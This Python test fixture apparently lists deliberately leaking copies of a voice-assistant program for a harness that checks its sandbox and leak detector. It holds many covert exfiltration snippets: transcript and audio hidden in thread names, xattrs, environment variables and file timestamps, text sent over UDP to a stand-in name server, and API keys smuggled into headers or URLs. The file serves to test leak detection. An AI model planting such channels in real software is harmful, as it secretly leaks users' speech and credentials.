"""Copies of the program that leak, and what must be found of each."""

from __future__ import annotations

from tests.attest.leaking_copy import Mutant

_SANDBOX = "stage.enter_sandbox()\n"
_SANDBOX_OF_READERS = "stage.enter_sandbox(opens_sockets=rings.connects)\n"
_OPEN_SOCKET = "__import__('socket').socket(2, 1).close()\n"
_TMP = "os.environ['TMPDIR']"
_HTTP = "llm/client/http/connection.py"

MUTANTS: tuple[tuple[Mutant, ...], ...] = (
    (
        Mutant(
            "words in an extended attribute", "llm",
            "os.setxattr(os.environ['HOME'], 'user.words', text.encode())",
            "- `llm` called setxattr(",
        ),
        Mutant(
            "words as an abstract socket", "overlay",
            "socket.socket(socket.AF_UNIX).bind(chr(0) + text)",
            "- `overlay` called bind(",
        ),
        Mutant(
            "System V memory for other users", "overlay",
            "LIBC.shmget(0x77, 65536, 0o1666)",
            "- `overlay` called shmget(",
        ),
        Mutant(
            "words as the name of a thread", "stt",
            "LIBC.prctl(15, text.encode())",
            "- `stt` called prctl(PR_SET_NAME",
        ),
        Mutant(
            "words to a socket of another program", "overlay",
            "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(text.encode(), '/run/other')",
            "- `overlay` called sendto(",
        ),
        Mutant(
            "words and the key in the user agent", "llm", "",
            "- `llm` sent a request that differs from its contract",
            changes=(
                (
                    _HTTP,
                    "        recorded = False\n",
                    "        recorded = False\n"
                    "        said = f\"{body.decode()[-60:]} {self._key or ''}\"\n"
                    "        encoded = __import__('base64').b64encode(said.encode())\n"
                    "        request.headers['user-agent'] = encoded.decode()\n",
                ),
            ),
        ),
        Mutant(
            "words as the target of a link", "overlay",
            f"os.symlink(text, {_TMP} + '/link')",
            "- `overlay` called symlink(",
        ),
        Mutant(
            "words as a folder", "overlay",
            f"os.mkdir({_TMP} + '/' + text)",
            "- `overlay` called mkdir(",
        ),
        Mutant(
            "words as a named pipe", "hub",
            f"os.mkfifo({_TMP} + '/' + text)",
            "- `hub` called mknod",
        ),
        Mutant(
            "words in a child's environment", "session",
            "subprocess.run(['/bin/true'], env={'SAID': text})",
            "- `session, its copy` put transcript into an environment",
        ),
        Mutant(
            "audio in base64 on standard error", "vad",
            "os.write(2, base64.b64encode(sound))",
            "- `vad:call` wrote audio to standard error",
        ),
        Mutant(
            "words over the process's own arguments", "session",
            "place = int(Path('/proc/self/stat').read_text().rpartition(')')[2].split()[45])\n"
            "ctypes.memmove(place, text.encode()[:40].ljust(40, b'.'), 40)",
            "- `session` was shown to other users as ",
        ),
        Mutant(
            "a word after the other as names that do not exist", "view",
            "[os.path.exists('/usr/share/' + word) for word in text.split()]",
            "- `view` called newfstatat(",
        ),
        Mutant(
            "the key, compressed and in base64, in the ledger", "llm", "",
            "- `llm` wrote the key to the session's own sockets and pipes",
            changes=(
                (
                    _HTTP,
                    "                url=url,\n",
                    "                url=url + __import__('base64').b64encode(\n"
                    "                    __import__('zlib').compress((self._key or '').encode())\n"
                    "                ).decode(),\n",
                ),
            ),
        ),
    ),
    (
        Mutant(
            "letters as times of a file", "llm",
            f"os.utime({_TMP}, ns=(0, int.from_bytes(text.encode()[:7])))",
            "- `llm` called utimensat(",
        ),
        Mutant(
            "letters as the size of a socket's buffer", "stt",
            "letters = int.from_bytes(text.encode()[:3])\n"
            "socket.socketpair()[0].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, letters)",
            "- `stt` called setsockopt(",
        ),
        Mutant("a copy of the process", "hub", "os.fork() or os._exit(0)", "- `hub` called clone("),
        Mutant(
            "rings of the kernel", "vad",
            "LIBC.syscall(425, 8, bytes(120))",
            "- `vad:mic` called io_uring_setup(",
        ),
        Mutant(
            "words in the kernel's keyring", "hub",
            "LIBC.syscall(248, b'user', text.encode(), text.encode(), 9, -3)",
            "- `hub` called add_key(",
        ),
        Mutant(
            "words to a name server", "llm",
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(text.encode(), ('192.0.2.1', 53))",
            "- `llm` called socket(AF_INET, SOCK_DGRAM",
        ),
        Mutant(
            "audio as the name of a message queue", "capture",
            "LIBC.mq_open(b'/' + sound.hex().encode()[:60], 0o102, 0o666, None)",
            "- `capture:mic` called mq_open(",
        ),
        Mutant(
            "audio as the name of memory", "capture",
            "os.close(os.memfd_create(sound.hex()[:200]))",
            "- `capture:call` called memfd_create(",
        ),
        Mutant(
            "letters as a limit", "overlay",
            "resource.setrlimit(resource.RLIMIT_NICE, (ord(text[0]), resource.RLIM_INFINITY))",
            "- `overlay` called prlimit64(",
        ),
        Mutant(
            "letters as signals", "view",
            "[os.kill(os.getppid(), 0) for _ in range(ord(text[0]))]",
            "- `view` called kill(",
        ),
        Mutant(
            "words in the name's file", "llm",
            "Path('/proc/self/comm').write_text(text)",
            '"/proc/self/comm", O_WRONLY',
        ),
        Mutant(
            "a file into a pipe, past the program", "capture",
            "os.sendfile(os.pipe()[1], os.open('/etc/hostname', os.O_RDONLY), 0, 9)",
            "- `capture:mic` called sendfile(",
        ),
        Mutant(
            "the transcript printed beside the events", "view",
            "os.write(1, zlib.compress(text.encode()).hex().encode() + bytes([10]))",
            "- `view` printed something else than an event",
        ),
        Mutant(
            "encrypted words in a file like a cache of bytecode", "session",
            f"open({_TMP} + '/said.cpython-311.pyc', 'wb').write(bytes(7 ^ each for each in text.encode()))",
            "said.cpython-311.pyc",
        ),
        Mutant(
            "words among the counts of sessions", "session", "",
            "- `session` wrote more than counts to ",
            changes=(
                (
                    "session/run/history.py",
                    "        file.write(added.ljust(len(before)))",
                    "        file.write(added + b'The last words')",
                ),
            ),
        ),
        Mutant(
            "letters as rights of a folder", "session",
            f"os.chmod({_TMP}, 0o700 | len(text))",
            "- `session` called chmod(",
        ),
        Mutant(
            "words as arguments of a program", "llm",
            "subprocess.run(['/bin/true', text])",
            "- `llm, its copy` put transcript into arguments",
        ),
        Mutant(
            "words in base32 as a library that does not exist", "stt",
            "ctypes.CDLL(base64.b32encode(text.encode()).decode() + '.so')",
            "- `stt` named transcript in a call of openat",
        ),
        Mutant(
            "words backwards and compressed on standard error", "overlay",
            "os.write(2, base64.b64encode(zlib.compress(text.encode()))[::-1])",
            "- `overlay` wrote transcript to standard error",
        ),
        Mutant(
            "another field in the request, each letter shifted", "llm", "",
            "- `llm` wrote transcript outside of questions to the network",
            changes=(
                (
                    "llm/protocols/chat_completions.py",
                    "fields |= dialect.extra\n",
                    'fields |= dialect.extra | {"user": "Guvf vf n frperg: Gunaxf sbe wbvavat gbqnl."}\n',
                ),
            ),
        ),
        Mutant(
            "the filter is removed and a socket opened", "stt", "",
            "- `stt` called socket(AF_INET",
            changes=(("stt/__main__.py", _SANDBOX_OF_READERS, _OPEN_SOCKET),),
        ),
        Mutant(
            "who asks the provider opens a socket too", "llm", "",
            "- `llm` called socket(AF_INET, SOCK_STREAM",
            changes=(("llm/__main__.py", _SANDBOX, _OPEN_SOCKET),),
        ),
        Mutant(
            "words are written to a file", "llm",
            "open(os.environ['HOME'] + '/.local/state/cuecard/said', 'w').write(text)",
            "- `llm` wrote transcript to ",
        ),
        Mutant(
            "the key is in another header", "llm", "",
            "- `llm` wrote the key to the network",
            changes=(
                (
                    "llm/protocols/protocol.py",
                    'return {"authorization": f"Bearer {key}"} if key else {}\n',
                    'return {"authorization": f"Bearer {key}", "x-debug": key} if key else {}\n',
                ),
            ),
        ),
        Mutant(
            "sound is written to a file", "vad", "",
            "- `vad:call` wrote audio to ",
            changes=(
                ("vad/__main__.py", _SANDBOX_OF_READERS, "pass\n"),
                (
                    "vad/detectors.py",
                    "_Floats = NDArray[np.float32]\n",
                    "_Floats = NDArray[np.float32]\n"
                    f"import os\n_LEAK = open({_TMP} + str(os.getpid()), 'wb', buffering=0)\n",
                ),
                ("vad/detectors.py", "audio = np.conc", "_LEAK.write(samples.tobytes()); audio = np.conc"),
            ),
        ),
        Mutant(
            "the key as decimal numbers in the environment of a child", "llm",
            "from llm.keys.session_keys import with_inherited_keys\n"
            "key = with_inherited_keys(os.environ)['ATTEST_ODD_NAME']\n"
            "subprocess.run(['/bin/true'], env={'N': ' '.join(map(str, key.encode()))})",
            "- `llm, its copy` put the key into an environment",
        ),
    ),
    (
        Mutant(
            "struck words stay in the log", "hub", "",
            "has struck or muted words in the log",
            changes=(("bus/hub.py", "        self.log.redact(redaction)\n", ""),),
        ),
    ),
    (
        Mutant(
            "struck words stay in freed memory", "hub", "",
            "has struck or muted words in its memory",
            changes=(("bus/process/private_memory.py", '    "PYTHONMALLOC": "malloc",\n', ""),),
        ),
    ),
)  # fmt: skip
"""Mutants that share a session; each has its own line in the report."""
